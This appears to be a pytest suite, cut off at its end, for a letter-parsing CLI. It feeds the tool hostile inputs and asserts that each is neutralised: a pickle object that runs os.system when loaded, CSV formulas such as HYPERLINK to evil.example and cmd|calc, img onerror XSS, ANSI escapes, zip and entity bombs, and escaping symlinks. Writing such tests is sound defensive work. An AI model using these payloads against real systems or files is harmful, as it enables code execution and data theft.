"""Hostile files and unlucky setups (issue 8), each from files built in code, through the public
functions and the CLI: the cache, numbering and zip bombs, what the folder walk and the cache read,
formula/Markdown/XML/terminal injection, one-line errors for every reader failure, per-file budgets,
and the output paths that must never be replaced.

Root ignores file permissions, so the unreadable-folder cases use a real chmod where that works
and otherwise make the same OSError appear where the operating system would raise it."""

import contextlib
import csv
import io
import json
import os
import pickle
import signal
import sqlite3
import stat
import struct
import tracemalloc
import zipfile
from collections.abc import Iterator
from pathlib import Path

import networkx as nx
import pytest
from folder_factory import build_cascade_folder
from hostile_factory import (
    LETTER_LINES,
    LETTER_TXT,
    W,
    body,
    letter_paragraphs,
    lvl,
    numbering,
    p,
    package,
    parts,
    zip_parts,
)
from letter_factory import LOCAL, A, B, C, child_text, parent_text
from markdown_it import MarkdownIt
from typer.testing import CliRunner

import parsers.batch
from cascade.reports.safe import FORMULA_STARTS, md_code, md_text, safe_cell, visible, xml_text
from cli import app
from models import InputError, Letter
from parsers import parse_letter
from parsers.batch import ParseBudget, file_sha256, find_letters, parse_many

runner = CliRunner()
ROOT = os.geteuid() == 0 if hasattr(os, "geteuid") else False


@contextlib.contextmanager
def within(seconds: int) -> Iterator[None]:
    """Fail instead of hanging the suite (a FIFO read, a label that never ends)."""
    def expire(*_: object) -> None:
        raise TimeoutError(f"still running after {seconds} s")

    previous = signal.signal(signal.SIGALRM, expire)
    signal.alarm(seconds)
    try:
        yield
    finally:
        signal.alarm(0)
        signal.signal(signal.SIGALRM, previous)


def write(path: Path, data: bytes | str) -> Path:
    path.parent.mkdir(parents=True, exist_ok=True)
    if isinstance(data, str):
        path.write_text(data, encoding="utf-8")
    else:
        path.write_bytes(data)
    return path


def error_lines(stderr: str) -> list[str]:
    return [line for line in stderr.splitlines() if line.startswith("error:")]


def analyse(folder: Path, out: Path, *extra: str):
    return runner.invoke(app, ["analyse", str(folder), "-o", str(out), "--jobs", "1", *extra])


def small_folder(tmp_path: Path) -> Path:
    """A province letter and two district letters implementing it, as .txt."""
    folder = tmp_path / "letters"
    write(folder / "tinh.txt", parent_text(["1. " + A, "- " + B, "2. " + C]))
    write(folder / "huyen" / "a.txt", child_text(["1. " + A, "2. " + LOCAL]))
    write(folder / "huyen" / "b.txt", child_text(["1. " + A, "- " + B]).replace("Số 45-CV/HU", "Số 46-CV/HU"))
    return folder


def quick(folder: Path, out: Path, *extra: str):
    return analyse(folder, out, "--format", "csv,md", *extra)


def read_csv(path: Path) -> list[list[str]]:
    with path.open(encoding="utf-8-sig", newline="") as f:
        return list(csv.reader(f))


# --- 1. the cache holds data only -----------------------------------------------------------------


class Planted:
    """Unpickling this runs os.system: what a pickle cache would let a cache writer do."""

    def __init__(self, marker: Path) -> None:
        self.marker = marker

    def __reduce__(self):
        return (os.system, (f"touch {self.marker}",))


def test_cache_values_are_json_never_pickle(tmp_path: Path) -> None:
    folder = small_folder(tmp_path)
    assert quick(folder, tmp_path / "out", "--cache", str(tmp_path / "cache")).exit_code == 0
    db = sqlite3.connect(tmp_path / "cache" / "cache.sqlite")
    rows = [v for table in ("letters", "links") for (v,) in db.execute(f"SELECT value FROM {table}")]
    assert rows and all(isinstance(v, str) for v in rows)
    for value in rows:
        assert isinstance(json.loads(value), dict)
    assert db.execute("SELECT value FROM meta WHERE key = 'format'").fetchone()[0].startswith("cascade-cache/json")


def test_a_planted_pickle_is_never_loaded(tmp_path: Path) -> None:
    """An old-format (pickle) cache, or one a neighbour on a shared --cache wrote, is rebuilt, never
    unpickled: the payload that would create `marker` never runs."""
    folder = small_folder(tmp_path)
    cache = tmp_path / "cache"
    assert quick(folder, tmp_path / "first", "--cache", str(cache)).exit_code == 0
    marker = tmp_path / "pwned"
    db = sqlite3.connect(cache / "cache.sqlite")
    payload = pickle.dumps(Planted(marker))
    db.execute("DROP TABLE meta")  # the format of the old pickle cache: letters and links only
    for table in ("letters", "links"):
        db.execute(f"UPDATE {table} SET value = ?", (payload,))
    db.commit()
    db.close()
    result = quick(folder, tmp_path / "second", "--cache", str(cache))
    assert result.exit_code == 0, result.stderr
    assert not marker.exists()
    assert "warning: the cache" in result.stderr and "rebuilding it empty" in result.stderr
    # and within the current format too: a value that is no JSON of ours is a miss
    db = sqlite3.connect(cache / "cache.sqlite")
    db.execute("UPDATE letters SET value = ?", (payload,))
    db.execute("UPDATE links SET value = ?", ('{"links": "not a list"}',))
    db.commit()
    db.close()
    result = quick(folder, tmp_path / "third", "--cache", str(cache))
    assert result.exit_code == 0, result.stderr
    assert not marker.exists()
    assert (tmp_path / "third" / "letters.csv").read_bytes() == (tmp_path / "first" / "letters.csv").read_bytes()


def _garbage(path: Path) -> None:
    path.write_bytes(b"this is not a database at all " * 100)


def _truncated(path: Path) -> None:
    data = path.read_bytes()
    path.write_bytes(data[: len(data) // 3])


def _foreign(path: Path) -> None:
    path.unlink()
    db = sqlite3.connect(path)
    db.execute("CREATE TABLE accounts (name TEXT, balance INTEGER)")
    db.commit()
    db.close()


def _link(path: Path) -> None:
    path.unlink()
    target = path.with_name("elsewhere.db")
    target.write_bytes(b"someone else's file")
    path.symlink_to(target)


@pytest.mark.parametrize("damage", [_garbage, _truncated, _foreign, _link], ids=lambda f: f.__name__.strip("_"))
def test_a_damaged_or_replaced_cache_is_rebuilt_with_a_warning(tmp_path: Path, damage) -> None:
    folder = small_folder(tmp_path)
    cache = tmp_path / "cache"
    assert quick(folder, tmp_path / "first", "--cache", str(cache)).exit_code == 0
    damage(cache / "cache.sqlite")
    result = quick(folder, tmp_path / "second", "--cache", str(cache))
    assert result.exit_code == 0, result.stderr
    assert any(line.startswith("warning: the cache") for line in result.stderr.splitlines()), result.stderr
    for name in ("letters.csv", "links.csv", "report.md"):
        assert (tmp_path / "second" / name).read_bytes() == (tmp_path / "first" / name).read_bytes()
    if damage is _link:
        assert (cache / "elsewhere.db").read_bytes() == b"someone else's file"  # not written through
    result = quick(folder, tmp_path / "third", "--cache", str(cache))  # the rebuilt cache works
    assert result.exit_code == 0 and "warning" not in result.stderr


def test_cache_at_a_file_or_inside_the_folder_is_a_one_line_error(tmp_path: Path) -> None:
    folder = small_folder(tmp_path)
    before = sorted(p.relative_to(folder) for p in folder.rglob("*"))
    a_file = write(tmp_path / "cache-file", "x")
    for cache in (a_file, folder / "cache", folder / ".cache"):
        result = quick(folder, tmp_path / "out", "--cache", str(cache))
        assert result.exit_code == 1
        assert len(error_lines(result.stderr)) == 1 and "Traceback" not in result.stderr, result.stderr
        assert str(cache) in result.stderr
    assert sorted(p.relative_to(folder) for p in folder.rglob("*")) == before  # nothing written into it
    # the default cache unusable: a warning, and the run goes on without it
    result = runner.invoke(app, ["analyse", str(folder), "-o", str(tmp_path / "out"), "--jobs", "1", "-f", "csv"],
                           env={"XDG_CACHE_HOME": str(a_file)})
    assert result.exit_code == 0, result.stderr
    assert "warning:" in result.stderr and "going on without a cache" in result.stderr


# --- 2. numbering that would build gigabyte labels ------------------------------------------------


BOMBS = {
    "upperLetter from 1e11": numbering(lvl(0, "upperLetter", "%1.", "100000000000")),
    "lowerRoman from 1e9": numbering(lvl(0, "lowerRoman", "%1.", "1000000000")),
    "startOverride 5e10": numbering(lvl(0, "upperLetter", "%1."),
                                    '<w:lvlOverride w:ilvl="0"><w:startOverride w:val="50000000000"/></w:lvlOverride>'),
    "a thousand-digit start": numbering(lvl(0, "lowerLetter", "%1.", "9" * 1000)),
    "lvlText of 20,000 placeholders": numbering(lvl(0, "upperRoman", "%1" * 20_000, "3000")),
    "letters from 100,000": numbering(lvl(0, "lowerLetter", "%1)", "100000")),
}


@pytest.mark.parametrize("name", BOMBS)
def test_numbering_labels_stay_short(tmp_path: Path, name: str) -> None:
    path = write(tmp_path / "bomb.docx", package(numbering_xml=BOMBS[name]))
    assert path.stat().st_size < 40_000
    with within(30):
        letter = parse_letter(path)
    plain = parse_letter(write(tmp_path / "plain.docx", package()))
    assert len(letter.model_dump_json()) < len(plain.model_dump_json()) + 4000, "the labels blew up the letter"


def test_word_numbering_still_renders_as_word_does(tmp_path: Path) -> None:
    """Control: ordinary lists keep Word's labels (Roman, letters, a start override)."""
    levels = lvl(0, "upperRoman", "%1.", "3") + lvl(1, "lowerLetter", "%2)")
    doc = body(*letter_paragraphs(numbered=False)[:9], p("Mục một", num=(1, 0)), p("Điểm một", num=(1, 1)),
               p("Điểm hai", num=(1, 1)), p("Mục hai", num=(1, 0)), *letter_paragraphs(numbered=False)[12:])
    letter = parse_letter(write(tmp_path / "ok.docx", package(doc, numbering(levels))))
    assert [i.label for i in letter.walk_items()] == ["III.", "a)", "b)", "IV."]


# --- 2 (budgets). one file can never stall a folder -------------------------------------------------


def slow_letter() -> str:
    """A letter of 60,000 bullets (3 MB): seconds to parse, so over a one-second budget."""
    lines = list(LETTER_LINES)
    lines[10:10] = [f"- Nội dung tuyên truyền số {k} về công tác chuyên môn." for k in range(60_000)]
    return "\n".join(lines) + "\n"


def test_the_cli_budget_defaults_are_the_library_ones() -> None:
    import cli

    assert (ParseBudget().seconds, ParseBudget().memory_mib) == (cli.PARSE_SECONDS, cli.PARSE_MIB)


def test_a_file_over_the_time_budget_is_stopped_and_the_others_go_on(tmp_path: Path) -> None:
    good = write(tmp_path / "a.txt", LETTER_TXT)
    slow = write(tmp_path / "slow.txt", slow_letter())
    other = write(tmp_path / "c.txt", LETTER_TXT)
    with within(60):
        outcomes = parse_many([good, slow, other], tmp_path, jobs=1, budget=ParseBudget(seconds=1, memory_mib=1024))
    assert [o.letter is not None for o in outcomes] == [True, False, True]
    assert outcomes[1].error == f"{slow}: exceeded the 1 s parse budget; stopped"


def test_a_file_over_the_memory_budget_is_stopped_and_the_others_go_on(tmp_path: Path) -> None:
    fat = write(tmp_path / "fat.txt", LETTER_TXT + ("Nội dung " * 4_000_000) + "\n")  # 40 MB, one line
    good = write(tmp_path / "a.txt", LETTER_TXT)
    with within(60):
        outcomes = parse_many([fat, good], tmp_path, jobs=1, budget=ParseBudget(seconds=60, memory_mib=64))
    assert outcomes[0].error == f"{fat}: exceeded the 64 MiB memory budget; stopped"
    assert outcomes[1].letter is not None
    # `cascade parse` on that one file: the same one line, no traceback
    result = runner.invoke(app, ["parse", str(fat), "--parse-memory", "64"])
    assert result.exit_code == 1
    assert result.stderr.splitlines() == [f"error: {fat}: exceeded the 64 MiB memory budget; stopped"]


# --- 3. stat and check before reading ------------------------------------------------------------


def test_fifo_device_link_and_sparse_file_are_refused_without_reading(tmp_path: Path) -> None:
    folder = tmp_path / "in"
    write(folder / "a.txt", LETTER_TXT)
    os.mkfifo(folder / "pipe.txt")
    (folder / "zero.txt").symlink_to("/dev/zero")
    with open(folder / "sparse.txt", "wb") as f:
        f.truncate(3 * 1024**3)
    tracemalloc.start()
    with within(60):
        result = analyse(folder, tmp_path / "out", "--cache", str(tmp_path / "cache"))
        assert file_sha256(folder / "sparse.txt") is None and file_sha256(folder / "pipe.txt") is None
        assert file_sha256(Path("/dev/zero")) is None
    peak = tracemalloc.get_traced_memory()[1]
    tracemalloc.stop()
    assert result.exit_code == 1, result.stderr  # the refused files fail the run (one exit rule)
    assert peak < 200 * 1024**2, f"{peak / 1024**2:.0f} MiB allocated: a file was read before it was checked"
    out = result.stderr
    assert "pipe.txt: is a named pipe (FIFO), not a regular file; not read" in out
    assert "zero.txt: is a symbolic link to a file outside the analysed folder" in out
    assert "sparse.txt: file is 3072.0 MiB, over the 50.0 MiB limit" in out
    # and named directly: the same refusals, from stat alone
    for path, reason in ((folder / "pipe.txt", "named pipe"), (folder / "zero.txt", "character device")):
        with within(10), pytest.raises(InputError, match=reason):
            parse_letter(path)


def test_the_cache_hash_reads_in_bounded_chunks(tmp_path: Path) -> None:
    path = write(tmp_path / "big.txt", b"x" * (20 * 1024**2))
    tracemalloc.start()
    digest = file_sha256(path)
    peak = tracemalloc.get_traced_memory()[1]
    tracemalloc.stop()
    import hashlib

    assert digest == hashlib.sha256(path.read_bytes()).hexdigest()
    assert peak < 4 * 1024**2


# --- 4. CSV formula injection -----------------------------------------------------------------------

FORMULAS = ("=HYPERLINK(\"http://evil.example/?x=\"&A1,\"bấm vào đây\")", "+cmd|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1")


def injection_folder(tmp_path: Path) -> Path:
    """The cascade folder with formulas, Markdown/HTML and control characters in its letters' text
    and in the names of its files and folders."""
    inject = "=HYPERLINK(\"http://evil.example\",\"x\") `code` <img src=x onerror=alert(1)> \x1b[31m | ~~"
    folder, roles = build_cascade_folder(tmp_path, inject=inject)
    province = (folder / roles["province"]).read_text(encoding="utf-8")
    names = [*FORMULAS[:4], "a``b <img src=x onerror=alert(1)>`", "ctl\x01\x0b\x1b[2J", "new\nline: fake.txt",
             "osc\x1b]8;;http://evil.example\x07link"]
    for k, name in enumerate(names):
        write(folder / "=evil|folder" / f"{name.replace('/', '_')}-{k}.txt",
              province.replace("Số 1383-CV/BTGTU", f"Số {2000 + k}-CV/BTGTU")
                      .replace("1. ", f"1. {FORMULAS[k % len(FORMULAS)]} ", 1))
    return folder


def test_no_csv_cell_is_a_formula(tmp_path: Path) -> None:
    folder = injection_folder(tmp_path)
    result = analyse(folder, tmp_path / "out", "--no-cache", "--format", "csv")
    assert result.exit_code == 1, result.stderr
    cells = [cell for name in ("letters.csv", "items.csv", "links.csv")
             for row in read_csv(tmp_path / "out" / name) for cell in row]
    assert len(cells) > 500
    assert [c for c in cells if c.startswith(FORMULA_STARTS)] == []
    assert any(c.startswith("'=HYPERLINK") for c in cells) and any(c.startswith("'=evil|folder/") for c in cells)


def test_safe_cell_is_the_owasp_rule() -> None:
    for payload in FORMULAS:
        assert safe_cell(payload) == "'" + payload
    assert safe_cell("Tuyên truyền") == "Tuyên truyền"
    assert safe_cell(0.25) == 0.25 and safe_cell(None) == ""


# --- 5. every reader failure is one line; our own bugs say so ---------------------------------------


def _deep_custom_xml(depth: int) -> bytes:
    inner = p("Mục lồng sâu")
    for _ in range(depth):
        inner = f"<w:customXml>{inner}</w:customXml>"
    return package(body(*letter_paragraphs(), inner))


def _bullets_990_deep() -> bytes:
    levels = lvl(0) + "".join(lvl(i, "bullet", "-") for i in range(1, 995))
    paras = letter_paragraphs()[:10] + [p(f"ý {k}", num=(1, k)) for k in range(1, 990)] + letter_paragraphs()[12:]
    return package(body(*paras), numbering(levels))


def _set_flag(data: bytes, name: str, flag: int = 0, method: int | None = None,
              name_bytes: bytes | None = None) -> bytes:
    """Patch a member's general-purpose flags / method / name in both its local and central headers."""
    out = bytearray(data)
    with zipfile.ZipFile(io.BytesIO(data)) as zf:
        info = zf.getinfo(name)
    for sig, flag_at, method_at, name_at in ((b"PK\x03\x04", 6, 8, 30), (b"PK\x01\x02", 8, 10, 46)):
        at = info.header_offset if sig == b"PK\x03\x04" else _central_entry(data, name)
        assert data[at : at + 4] == sig
        struct.pack_into("<H", out, at + flag_at, struct.unpack_from("<H", data, at + flag_at)[0] | flag)
        if method is not None:
            struct.pack_into("<H", out, at + method_at, method)
        if name_bytes is not None:
            out[at + name_at : at + name_at + len(name_bytes)] = name_bytes
    return bytes(out)


def _central_entry(data: bytes, name: str) -> int:
    at = data.find(b"PK\x01\x02")
    while at >= 0:
        length = struct.unpack_from("<H", data, at + 28)[0]
        if data[at + 46 : at + 46 + length] == name.encode():
            return at
        at = data.find(b"PK\x01\x02", at + 4)
    raise KeyError(name)


def _long_unit(chars: int) -> bytes:
    lines = list(LETTER_LINES)
    lines.insert(10, "- Theo Công văn số 12-CV/TU " + "chữ " * (chars // 4))
    return "\n".join(lines).encode()


def test_nesting_thousands_deep_parses(tmp_path: Path) -> None:
    for name, data in (("custom.docx", _deep_custom_xml(1100)), ("bullets.docx", _bullets_990_deep())):
        letter = parse_letter(write(tmp_path / name, data))
        assert isinstance(letter, Letter) and letter.items
        json.loads(letter.model_dump_json())


def test_symbol_codes_beyond_unicode_are_skipped(tmp_path: Path) -> None:
    """w:sym with a code past U+10FFFF, past a C int, a surrogate or no hex at all: no glyph."""
    syms = "".join(f'<w:r><w:sym w:font="Symbol" w:char="{c}"/></w:r>' for c in
                   ("FFFFFFFF", "110000", "D800", "zz", "", "F0B7"))
    doc = body(*letter_paragraphs()[:10], f"<w:p>{syms}<w:r><w:t>ý cuối</w:t></w:r></w:p>", *letter_paragraphs()[10:])
    letter = parse_letter(write(tmp_path / "sym.docx", package(doc)))
    assert [b.text for b in letter.items[0].blocks] == ["ý cuối"]  # the one real glyph, "•", made it a bullet


def test_a_unit_over_spacys_max_length_parses(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """spaCy refuses a text over `max_length` (a million characters; E088): such a unit is searched
    for citations without spaCy. The limit is lowered here so the unit can stay small."""
    from parsers.nlp import load_pipeline

    monkeypatch.setattr(load_pipeline(), "max_length", 20_000)
    letter = parse_letter(write(tmp_path / "long.txt", _long_unit(40_000)))
    assert any(c.symbol == "12-CV/TU" for c in letter.citations)


READER_FAILURES = {
    "encrypted.docx": (lambda: _set_flag(package(), "word/document.xml", flag=0x1), "password-protected"),
    "bad_name.docx": (lambda: _set_flag(package(), "word/styles.xml", flag=0x800, name_bytes=b"\xff\xfe"), "corrupt"),
    "imploded.docx": (lambda: _set_flag(package(), "word/document.xml", method=6), "corrupt .docx"),
    "entities.docx": (lambda: package(b'<?xml version="1.0"?><!DOCTYPE d [<!ENTITY a "aaaaaaaaaa">'
                                      b'<!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">]><d>&b;</d>'), "corrupt"),
    "no_body.docx": (lambda: package('<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/'
                                     '2006/main"/>'), "no w:body"),
}


@pytest.mark.parametrize("name", READER_FAILURES)
def test_reader_failures_are_one_line_errors(tmp_path: Path, name: str) -> None:
    make, reason = READER_FAILURES[name]
    path = write(tmp_path / name, make())
    with pytest.raises(InputError) as caught:
        parse_letter(path)
    assert reason in caught.value.reason and "\n" not in str(caught.value)
    result = runner.invoke(app, ["parse", str(path)])
    assert result.exit_code == 1 and len(result.stderr.splitlines()) == 1, result.stderr


def test_an_unsearchable_folder_is_a_one_line_error(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    locked = tmp_path / "locked"
    path = write(locked / "a.txt", LETTER_TXT)
    if ROOT:
        real_stat = os.stat

        def stat_as_a_user(p, *args, **kwargs):
            if str(p).startswith(str(locked) + os.sep):
                raise PermissionError(13, "Permission denied", str(p))
            return real_stat(p, *args, **kwargs)

        monkeypatch.setattr(os, "stat", stat_as_a_user)
    else:
        locked.chmod(0)
    try:
        with pytest.raises(InputError, match=r"cannot be read \(Permission denied\)"):
            parse_letter(path)
        result = runner.invoke(app, ["parse", str(path), str(write(tmp_path / "b.txt", LETTER_TXT))])
    finally:
        locked.chmod(0o755)
    assert result.exit_code == 1
    assert error_lines(result.stderr) == [f"error: {path}: cannot be read (Permission denied)"]
    assert len(json.loads(result.stdout)) == 1  # the other file is still parsed


def test_output_and_cache_paths_through_a_file_are_one_line_errors(tmp_path: Path) -> None:
    letter = write(tmp_path / "a.txt", LETTER_TXT)
    a_file = write(tmp_path / "file", "x")
    folder, _ = build_cascade_folder(tmp_path)
    for args in (["parse", str(letter), "-o", str(a_file / "sub")],
                 ["analyse", str(folder), "-o", str(a_file / "sub"), "--no-cache"],
                 ["analyse", str(folder), "-o", str(tmp_path / "out"), "--cache", str(a_file)],
                 ["analyse", str(folder), "-o", str(tmp_path / "out"), "--cache", str(a_file / "sub")]):
        result = runner.invoke(app, args)
        assert result.exit_code == 1, args
        assert len(error_lines(result.stderr)) == 1 and "Traceback" not in result.stderr, (args, result.stderr)
    assert a_file.read_text() == "x"


def test_our_own_bug_is_an_internal_error_not_a_corrupt_file(tmp_path: Path, monkeypatch) -> None:
    """A defect of ours (here an AttributeError planted in the .docx reader) is reported as an
    internal error naming the file, with the traceback under --debug; the other files still parse
    (`cascade parse A BAD C`)."""
    import parsers.docx_reader

    real = parsers.docx_reader._paragraph

    def buggy(p_el, ctx):
        if "Nguyễn" in "".join(p_el.itertext()):
            return None.text  # type: ignore[attr-defined]
        return real(p_el, ctx)

    monkeypatch.setattr(parsers.docx_reader, "_paragraph", buggy)
    a = write(tmp_path / "a.txt", LETTER_TXT)
    bad = write(tmp_path / "bad.docx", package())
    c = write(tmp_path / "c.txt", LETTER_TXT)
    with pytest.raises(AttributeError):
        parse_letter(bad)  # not an InputError: the reader does not call it corrupt
    result = runner.invoke(app, ["parse", str(a), str(bad), str(c)])
    assert result.exit_code == 1
    assert [x["source"]["path"] for x in json.loads(result.stdout)] == [str(a), str(c)]
    (line,) = error_lines(result.stderr)
    assert line.startswith(f"error: {bad}: internal error while parsing (AttributeError") and "corrupt" not in line
    assert "Traceback" not in result.stderr
    debug = runner.invoke(app, ["parse", str(a), str(bad), str(c), "--debug"])
    assert "Traceback (most recent call last)" in debug.stderr and "buggy" in debug.stderr


def test_a_defect_after_parsing_is_one_line_or_a_traceback_with_debug(tmp_path: Path, monkeypatch) -> None:
    import cascade.linking

    def broken(parent, child):
        raise IndexError("list index out of range")

    monkeypatch.setattr(cascade.linking, "link_letters", broken)
    a, b = write(tmp_path / "a.txt", LETTER_TXT), write(tmp_path / "b.txt", LETTER_TXT)
    result = runner.invoke(app, ["link", str(a), str(b)])
    assert result.exit_code == 1 and isinstance(result.exception, SystemExit)
    assert result.stderr.splitlines() == ["error: internal error (IndexError: list index out of range); this is a "
                                          "defect of cascade, please report it (--debug shows the traceback)"]
    debug = runner.invoke(app, ["link", str(a), str(b), "--debug"])
    assert debug.exit_code == 1 and "Traceback (most recent call last)" in debug.stderr and "broken" in debug.stderr


# --- 6. a lying zip header ------------------------------------------------------------------------


def test_a_lying_size_in_the_zip_header_inflates_nothing(tmp_path: Path) -> None:
    """word/document.xml declares 2 KB but holds 64 MiB: reading stops at what the header says (the
    CRC then fails); the 64 MiB are never inflated."""
    entries = parts(document=b"<" + b" " * (64 * 1024**2))
    data = bytearray(zip_parts(entries))
    with zipfile.ZipFile(io.BytesIO(bytes(data))) as zf:
        info = zf.getinfo("word/document.xml")
    struct.pack_into("<I", data, info.header_offset + 22, 2048)
    struct.pack_into("<I", data, _central_entry(bytes(data), "word/document.xml") + 24, 2048)
    path = write(tmp_path / "liar.docx", bytes(data))
    assert path.stat().st_size < 200_000
    tracemalloc.start()
    with pytest.raises(InputError, match="corrupt"):
        parse_letter(path)
    peak = tracemalloc.get_traced_memory()[1]
    tracemalloc.stop()
    assert peak < 16 * 1024**2, f"{peak / 1024**2:.0f} MiB inflated"


def test_a_styles_part_past_its_bound_is_refused_while_it_streams(tmp_path: Path) -> None:
    """Parts other than the main document are small in every real file; a 9 MiB styles part is
    refused as it unpacks (the whole package stays under the unpacked-size limit)."""
    style = '<w:style w:type="paragraph" w:styleId="S{0}"><w:name w:val="S{0}"/></w:style>'
    styles = f'<w:styles xmlns:w="{W}">' + "".join(style.format(k) for k in range(140_000)) + "</w:styles>"
    assert len(styles) > 9 * 1024**2
    path = write(tmp_path / "styles.docx", package(styles=styles))
    with pytest.raises(InputError) as caught:
        parse_letter(path)
    assert caught.value.reason.startswith("corrupt .docx (word/styles.xml unpacks to more than 8.0 MiB")


def test_graphml_of_hostile_names_and_text_reads_back(tmp_path: Path) -> None:
    folder = injection_folder(tmp_path)
    write(folder / "ctl-text.txt", LETTER_TXT.replace("Tuyên truyền", "Tuyên\x01 truyền\x0b\x1b[0m"))
    result = analyse(folder, tmp_path / "out", "--no-cache", "--format", "graph")
    assert result.exit_code == 1, result.stderr
    graph = nx.read_graphml(tmp_path / "out" / "cascade.graphml")
    assert any("\\x1b" in n for n in graph)
    assert any("\\x01" in str(d.get("text", "")) for _, d in graph.nodes(data=True))
    parent, child = (write(tmp_path / f"{k}\x01\x1b.txt", LETTER_TXT) for k in ("p", "c"))
    result = runner.invoke(app, ["link", str(parent), str(child), "--graph", str(tmp_path / "g.graphml"),
                                 "-o", str(tmp_path / "r.json")])
    assert result.exit_code == 0, result.stderr
    assert len(nx.read_graphml(tmp_path / "g.graphml")) > 2


def test_xml_text_keeps_only_what_xml_allows() -> None:
    assert xml_text("a\x01b\x0bc\x1bd\te\nf\ufffe") == "a\\x01b\\x0bc\\x1bd\te\nf\\ufffe"


# --- 8. Markdown and terminal injection -------------------------------------------------------------


def test_report_md_shows_hostile_names_as_text(tmp_path: Path) -> None:
    folder = injection_folder(tmp_path)
    result = analyse(folder, tmp_path / "out", "--no-cache", "--format", "md")
    assert result.exit_code == 1, result.stderr
    md = (tmp_path / "out" / "report.md").read_text(encoding="utf-8")
    html = MarkdownIt("commonmark").enable(["table", "strikethrough"]).render(md)
    assert "<img" not in html and "onerror" in html  # the markup is shown, never live
    assert "a``b &lt;img src=x onerror=alert(1)&gt;`" in html  # the name inside its code span, intact
    assert "\x1b" not in md and "\x01" not in md
    for line in md.splitlines():
        if line.startswith("|"):
            assert line.rstrip().endswith("|")  # no name broke out of its table row


def test_md_code_and_md_text_cannot_be_escaped() -> None:
    for text in ("a`b", "a``b", "`x`", "x|y", "line\nbreak", "<img src=x onerror=alert(1)>"):
        html = MarkdownIt("commonmark").enable(["table", "strikethrough"]).render(
            f"| h |\n|---|\n| {md_code(text, in_table=True)} |\n\n{md_code(text)} {md_text(text)}\n")
        assert "<img" not in html and html.count("<td>") == 1
    assert md_text("**bold** _x_ [l](u)") == "\\*\\*bold\\*\\* \\_x\\_ \\[l\\](u)"


def test_terminal_lines_cannot_be_spoofed(tmp_path: Path) -> None:
    """Newlines and ANSI/OSC escapes in a file name print as visible escapes: one error, one line."""
    names = ["evil\x1b[2J\x1b[1;1Hclean.txt", "two\nerror: fake.txt", "osc\x1b]0;title\x07.txt", "rtl\u202etxt.exe.txt"]
    paths = [write(tmp_path / n, b"") for n in names]
    result = runner.invoke(app, ["parse", *map(str, paths)])
    assert result.exit_code == 1
    assert "\x1b" not in result.stderr and "\u202e" not in result.stderr and "\x07" not in result.stderr
    errors = error_lines(result.stderr)
    assert len(errors) == len(paths) and all("empty file" in e for e in errors)
    assert "two\\nerror: fake.txt" in result.stderr and "\\u202e" in result.stderr
    assert visible("a\x1b[31mb\nc\x9b") == "a\\x1b[31mb\\nc\\x9b"


# --- 9. walking the folder --------------------------------------------------------------------------


def test_links_out_of_the_folder_are_refused_and_folders_not_followed(tmp_path: Path) -> None:
    outside = write(tmp_path / "outside" / "secret.txt", LETTER_TXT)
    folder = tmp_path / "in"
    write(folder / "a.txt", LETTER_TXT)
    (folder / "secret.txt").symlink_to(outside)
    (folder / "inner.txt").symlink_to(folder / "a.txt")  # a link to a file inside: read
    (folder / "linked").symlink_to(outside.parent, target_is_directory=True)
    (folder / "loop").symlink_to(folder, target_is_directory=True)
    (folder / "broken.docx").symlink_to(tmp_path / "nowhere.docx")
    found = find_letters(folder)
    assert [x.name for x in found.paths] == ["a.txt", "inner.txt"]
    reasons = {x.name: r for x, r in found.refused.items()}
    assert "outside the analysed folder" in reasons["secret.txt"]
    assert "not followed" in reasons["linked"] and "not followed" in reasons["loop"]
    assert "broken" in reasons["broken.docx"]
    result = analyse(folder, tmp_path / "out", "--no-cache", "--format", "csv")
    assert result.exit_code == 1, result.stderr
    assert "secret.txt" not in (tmp_path / "out" / "items.csv").read_text(encoding="utf-8-sig")
    rows = {r[0]: r for r in read_csv(tmp_path / "out" / "letters.csv")[1:]}
    assert rows["secret.txt"][1] == "failed" and "outside the analysed folder" in rows["secret.txt"][2]


def test_an_unreadable_subfolder_is_listed(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    folder = tmp_path / "in"
    write(folder / "a.txt", LETTER_TXT)
    locked = folder / "locked"
    write(locked / "b.txt", LETTER_TXT)
    if ROOT:
        real_scandir = os.scandir

        def scandir_as_a_user(path):
            if Path(path) == locked:
                raise PermissionError(13, "Permission denied", str(path))
            return real_scandir(path)

        monkeypatch.setattr(parsers.batch.os, "scandir", scandir_as_a_user)
    else:
        locked.chmod(0)
    try:
        found = find_letters(folder)
        result = analyse(folder, tmp_path / "out", "--no-cache", "--format", "csv")
    finally:
        locked.chmod(0o755)
    assert found.paths == [folder / "a.txt"]
    assert "folder cannot be read (Permission denied)" in found.refused[locked]
    assert result.exit_code == 1 and "locked: " in result.stderr and "1 of 2 files failed" in result.stderr


# --- 10. near-copies --------------------------------------------------------------------------------


def test_copied_from_sibling_names_a_few_siblings_and_counts_the_rest(tmp_path: Path) -> None:
    """Ten near-copies of one district letter: each flag list names at most three siblings (the
    closest copies) and counts the others, instead of listing every sibling."""
    from cascade.corpus import detect_parents

    folder = tmp_path / "in"
    write(folder / "tinh.txt", parent_text(["1. " + A, "- " + B, "2. " + C]))
    for k in range(10):
        write(folder / f"huyen-{k}.txt", child_text(["1. " + A, "2. " + LOCAL + f" Bản sao {k}."])
              .replace("Số 45-CV/HU", f"Số {50 + k}-CV/HU"))
    letters = {p.name: parse_letter(p) for p in sorted(folder.glob("*.txt"))}
    nodes = detect_parents(letters)
    for k in range(10):
        flags = [f for f in nodes[f"huyen-{k}.txt"].flags if f.startswith("copied-from-sibling")]
        assert 1 <= len(flags) <= 4, flags
        assert sum("% of its local text is also in huyen-" in f for f in flags) <= 3
    assert any("also 6 more siblings hold most of its local text" in f for n in nodes.values() for f in n.flags)


# --- 11. refusals that were too strict, outputs that were not strict enough ----------------------------


def test_ilvl_nine_and_beyond_is_read(tmp_path: Path) -> None:
    levels = "".join(lvl(i, "decimal", "%1." if i == 0 else f"%{i + 1}.") for i in range(12))
    doc = body(*letter_paragraphs(), p("Mục ở cấp mười", num=(1, 9)), p("Mục ở cấp mười ba", num=(1, 12)))
